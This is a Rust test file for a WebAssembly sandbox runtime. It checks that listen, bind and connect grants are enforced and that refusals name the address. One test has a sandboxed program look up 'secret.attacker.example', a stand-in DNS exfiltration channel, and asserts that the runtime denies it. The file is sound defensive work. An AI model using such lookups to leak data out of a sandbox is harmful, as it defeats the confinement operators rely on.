//! Programs that look up and bind what no grant is for.

use std::net::TcpListener;
use std::path::PathBuf;
use std::process::Command;

const LOOK_UP: &str = include_str!("programs/look_up.wat");
const BIND03: &str = include_str!("programs/bind03.wat");
const SOCKET02: &str = include_str!("programs/socket02.wat");

/// Runs a program with these flags; what it says is told by its text. Its exit code, and the standard error.
fn run(name: &str, program: &str, flags: &[&str]) -> (Option<i32>, String) {
    let file = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join(format!("{name}.wasm"));
    std::fs::write(&file, wat::parse_str(program).expect("it is valid")).expect("cargo made the folder");
    let mut run = Command::new(env!("CARGO_BIN_EXE_wasyncio"));
    let output = run.args(["run", "--timeout", "30s"]).args(flags).arg(&file).output().expect("it starts");
    (output.status.code(), String::from_utf8(output.stderr).expect("it prints UTF-8"))
}

fn look_up(test: &str, name: &str, flags: &[&str]) -> (Option<i32>, String) {
    run(test, &LOOK_UP.replace("LENGTH", &name.len().to_string()).replace("NAME", name), flags)
}

/// `program` with the address in its place.
fn at(program: &str, octets: [u8; 4], port: u16) -> String {
    let octets = octets.map(|octet| format!("(i32.const {octet})")).join(" ");
    program.replace("OCTETS", &octets).replace("PORT", &port.to_string())
}

/// A program of WASI 0.2 that binds to the address, if there is one, and connects to this port, if it is not 0.
fn socket02(bind: Option<[u8; 4]>, peer: u16) -> String {
    let program = SOCKET02.replace("BIND", &u8::from(bind.is_some()).to_string()).replace("PEER", &peer.to_string());
    at(&program, bind.unwrap_or_default(), 0)
}

/// Without it there are no such sockets at all.
const WASI02: &str = "--allow-wasi02-sockets";

fn assert_denied((code, text): (Option<i32>, String), told: &str) {
    assert_eq!(code, Some(1), "{text}");
    assert!(text.contains(&format!("denied: {told}")), "{text}");
}

/// A channel out of the sandbox: the name's labels reach whoever serves the domain.
#[test]
fn a_grant_to_listen_lets_nothing_be_looked_up() {
    for (test, grant) in [("listen-any", "*:8080"), ("listen-all", "*:*"), ("listen-one", "127.0.0.1:8080")] {
        let told = look_up(test, "secret.attacker.example", &["--allow-listen", grant]);
        assert_denied(told, "looking up secret.attacker.example");
    }
}

#[test]
fn binding_port_0_needs_a_grant_and_the_refusal_names_the_address() {
    for (test, octets, address) in
        [("bind03-any", [0, 0, 0, 0], "0.0.0.0:0"), ("bind03-loopback", [127, 0, 0, 1], "127.0.0.1:0")]
    {
        let program = at(BIND03, octets, 0);
        assert_denied(run(test, &program, &[WASI02]), &format!("listening on {address};"));
        // One that may connect may not choose where it connects from.
        let told = run(test, &program, &["--allow-connect", "127.0.0.1:9"]);
        assert_denied(told, &format!("binding {address};"));
        let granted = run(test, &program, &[WASI02, "--allow-listen", address]);
        assert_eq!(granted, (Some(0), String::new()));
    }
}

#[test]
fn so_it_is_with_sockets_of_wasi_02() {
    for (test, octets, address) in
        [("bind02-any", [0, 0, 0, 0], "0.0.0.0:0"), ("bind02-loopback", [127, 0, 0, 1], "127.0.0.1:0")]
    {
        let program = socket02(Some(octets), 0);
        assert_denied(run(test, &program, &[WASI02]), &format!("listening on {address};"));
        let granted = run(test, &program, &[WASI02, "--allow-listen", address]);
        assert_eq!(granted, (Some(0), String::new()));
    }
}

#[test]
fn connecting_without_binding_needs_no_grant_but_the_one_to_connect() {
    let peer = TcpListener::bind("127.0.0.1:0").expect("a port is free");
    let address = peer.local_addr().expect("it is bound");
    let program = socket02(None, address.port());
    assert_denied(run("connect02", &program, &[WASI02]), &format!("connecting to {address};"));
    let granted = run("connect02", &program, &[WASI02, "--allow-connect", &address.to_string()]);
    assert_eq!(granted, (Some(0), String::new()));
}
